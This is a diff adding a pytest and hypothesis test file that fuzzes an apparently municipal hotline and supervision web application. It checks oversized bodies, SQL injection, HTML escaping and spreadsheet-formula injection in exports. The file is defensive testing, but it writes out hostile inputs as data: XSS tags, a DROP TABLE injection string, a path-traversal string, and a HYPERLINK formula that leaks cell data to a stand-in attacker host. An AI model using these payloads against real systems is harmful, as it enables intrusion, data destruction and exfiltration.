@@ -1,0 +1,178 @@
+"""Bad input, beyond tests/web/test_fuzz_forms.py (call form, case actions, query strings) and the
+schemathesis run in tests/open311: the supervision forms, sign-in and the caller-history fragment
+fuzzed; oversized bodies; SQL, HTML and spreadsheet-formula injection."""
+
+from __future__ import annotations
+
+import io
+import re
+from datetime import date, timedelta
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from domain.actors import SYSTEM_ACTOR
+from domain.api_keys import ApiKeyRegistry
+from domain.case import Call
+from tests.conftest import OPERATOR_ACTOR, SUPERVISOR_ACTOR
+from tests.web.conftest import app, browser, signed_in, web_services  # noqa: F401 - fixtures
+from tests.web.test_operator_pages import CALL
+
+junk = st.one_of(
+    st.text(max_size=60),
+    st.sampled_from(["", " ", "0", "-1", "2025-13-45", "9999-12-31", "<script>alert(1)</script>", "' OR 1=1 --",
+                     "%", "_", "\x00", "字" * 3000, "HBJ", "CGJ,HBJ", "=1+1", "2025-10", "../../etc/passwd"]),
+)
+FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+REFERENCE = "市长批示〔2025〕9号"
+
+
+def stored_events(services) -> int:
+    return len(services.app.recorder.select_notifications(None, 1_000_000))
+
+
+@pytest.fixture
+def desks(signed_in, web_services):  # noqa: F811
+    web_services.app.register_instruction(REFERENCE, SUPERVISOR_ACTOR, leader="张市长", content="整治噪音",
+                                          lead_department="HBJ", cooperating_departments=["CGJ"],
+                                          due=date.today() + timedelta(days=60))
+    return {who: signed_in(who) for who in ("hbj", "supervisor")}
+
+
+@FUZZ
+@given(data=st.dictionaries(st.sampled_from(["reference_no", "leader", "content", "lead_department", "cooperating",
+                                             "due"]), junk, max_size=6))
+def test_the_register_form(desks, web_services, data):  # noqa: F811
+    before = stored_events(web_services)
+    good = {"reference_no": "批示-1", "leader": "李副市长", "content": "落实", "lead_department": "HBJ",
+            "due": (date.today() + timedelta(days=30)).isoformat()}
+    response = desks["supervisor"].post("/supervisor/ledger/new", {**good, **data})
+    assert response.status_code in (302, 400), response.status_code
+    if response.status_code == 400:
+        assert stored_events(web_services) == before  # nothing stored from a rejected form
+
+
+ITEM_FIELDS = {"progress": ["content"], "feedback": ["month", "content"], "complete": ["summary"], "urge": ["note"],
+               "due": ["due", "reason"], "verify": ["note"], "reopen": ["reason"]}
+
+
+@FUZZ
+@given(action=st.sampled_from(sorted(ITEM_FIELDS)), values=st.lists(junk, min_size=2, max_size=2), version=junk,
+       who=st.sampled_from(["hbj", "supervisor"]))
+def test_every_supervision_item_action(desks, web_services, action, values, version, who):  # noqa: F811
+    page = f"/supervision/items/{REFERENCE}"
+    data = {f"{action}-{name}": value for name, value in zip(ITEM_FIELDS[action], values)}
+    data[f"{action}-version"] = version
+    before = stored_events(web_services)
+    response = desks[who].post(f"{page}/do/{action}", data, token_from=page)
+    assert response.status_code in (302, 403), response.status_code
+    stored = stored_events(web_services) - before
+    assert stored == 0 if response.status_code == 403 else stored in (0, 1)
+
+
+@FUZZ
+@given(data=st.dictionaries(st.sampled_from(["escalate-due", "escalate-content", "escalate-version"]), junk))
+def test_the_escalation_form(desks, web_services, data):  # noqa: F811
+    ticket = web_services.app.open_case(Call(**{k: CALL[k] for k in ("channel", "category", "service_code",
+                                                                       "description")}), OPERATOR_ACTOR).ticket_no
+    before = stored_events(web_services)
+    response = desks["supervisor"].post(f"/cases/{ticket}/escalate", data, token_from=f"/cases/{ticket}")
+    assert response.status_code == 302
+    assert stored_events(web_services) == before  # an opened case is not overdue: always refused
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(username=junk, password=junk)
+def test_the_sign_in_form(browser, web_services, username, password):  # noqa: F811
+    from web.auth import throttle
+
+    throttle.clear(*list(throttle._failures))
+    before = stored_events(web_services)
+    response = browser.login(username, password or "x")
+    assert response.status_code in (400, 401), response.status_code
+    assert stored_events(web_services) == before
+
+
+@FUZZ
+@given(params=st.dictionaries(st.sampled_from(["phone", "service_code"]), junk, max_size=2))
+def test_the_caller_history_fragment(signed_in, params):  # noqa: F811
+    response = signed_in("operator").get("/operator/caller-history", query_string=params)
+    assert response.status_code == 200
+    assert "<script>alert(1)</script>" not in response.text
+
+
+def test_oversized_bodies_are_refused_with_413(signed_in, web_services, app):  # noqa: F811
+    operator = signed_in("operator")
+    huge = "字" * 100_000  # 300 KB of UTF-8, over the 256 KB limit
+    response = operator.post("/calls/new", {**CALL, "description": huge})
+    assert response.status_code == 413 and "内容过大" in response.text
+    key = ApiKeyRegistry(web_services.app).issue("测试", SYSTEM_ACTOR).key
+    client = app.test_client()
+    response = client.post("/open311/v2/requests.json", data={
+        "api_key": key, "service_code": "noise", "description": huge, "address_string": "解放路 1 号"})
+    assert response.status_code == 413 and response.json[0]["code"] == 413
+    response = client.post("/open311/v2/requests.xml", data={"api_key": key, "description": huge})
+    assert response.status_code == 413 and b"<code>413</code>" in response.data
+    assert list(web_services.app.case_ids()) == []
+
+
+def test_sql_in_search_fields_is_only_text(services):
+    app, models = services.app, services.read_models
+    for description in ("噪音 100% 超标", "噪音_夜间", "普通噪音投诉", "O'Brien 的店铺 ' OR 1=1 --"):
+        app.open_case(Call(channel="phone", category="complaint", service_code="noise", description=description),
+                      OPERATOR_ACTOR)
+    models.catch_up()
+
+    def found(text):
+        return sorted(row.description for row in models.cases.search(text=text)[0])
+
+    assert found("%") == ["噪音 100% 超标"]  # a wildcard is a character like any other
+    assert found("_") == ["噪音_夜间"]
+    assert found("!") == []  # the escape character itself
+    assert found("' OR 1=1 --") == ["O'Brien 的店铺 ' OR 1=1 --"]
+    assert found("'; DROP TABLE cases; --") == []
+    assert len(models.cases.search()[0]) == 4  # the table is still there, with every row
+    assert models.cases.search(ticket_no="' OR '1'='1")[1] == 0
+    assert models.cases.search(phone="' OR 1=1 --")[1] == 0
+
+
+def test_search_page_with_sql_and_wildcards(signed_in, web_services):  # noqa: F811
+    operator = signed_in("operator")
+    operator.post("/calls/new", {**CALL, "description": "噪音 100% 超标"})
+    operator.post("/calls/new", {**CALL, "description": "普通噪音投诉"})
+    for q, hits in (("%", 1), ("' OR 1=1 --", 0), ("噪音", 2)):
+        page = operator.get("/cases", query_string={"q": q}).text
+        assert len(re.findall(r'href="/cases/\d{8}-\d{6}"', page)) == hits, q
+
+
+SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
+
+
+def test_html_in_descriptions_is_escaped_in_pages(signed_in, web_services):  # noqa: F811
+    operator, supervisor = signed_in("operator"), signed_in("supervisor")
+    response = operator.post("/calls/new", {**CALL, "description": SCRIPT, "address": SCRIPT, "caller_name": "<b>x"})
+    ticket = response.headers["Location"].rsplit("/", 1)[1]
+    web_services.app.register_instruction("批示<script>", SUPERVISOR_ACTOR, leader="<script>x", content=SCRIPT,
+                                          lead_department="HBJ", due=date.today() + timedelta(days=9))
+    pages = [operator.get(f"/cases/{ticket}").text, operator.get("/cases", query_string={"q": "script"}).text,
+             supervisor.get(f"/audit/cases/{ticket}").text, supervisor.get("/supervisor/ledger").text,
+             supervisor.get("/supervision/items/批示<script>").text]
+    for page in pages:
+        assert "<script>alert" not in page and "<img src=x" not in page and "<b>x" not in page
+    assert "&lt;script&gt;alert" in pages[0] and "&lt;script&gt;alert" in pages[3]
+
+
+def test_formulas_in_the_ledger_export_stay_text(signed_in, web_services):  # noqa: F811
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+SUM(1,2)", "-2+3", "@SUM(1,2)", "=1+1"]
+    for number, text in enumerate(attacks):
+        web_services.app.register_instruction(f"批示-{number}", SUPERVISOR_ACTOR, leader=text, content=text,
+                                              lead_department="HBJ", due=date.today() + timedelta(days=9))
+    month = date.today().strftime("%Y-%m")
+    response = signed_in("supervisor").get("/supervisor/ledger.xlsx", query_string={"month": month})
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value in attacks]
+    assert len(cells) == 2 * len(attacks)  # leader and content of each item
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
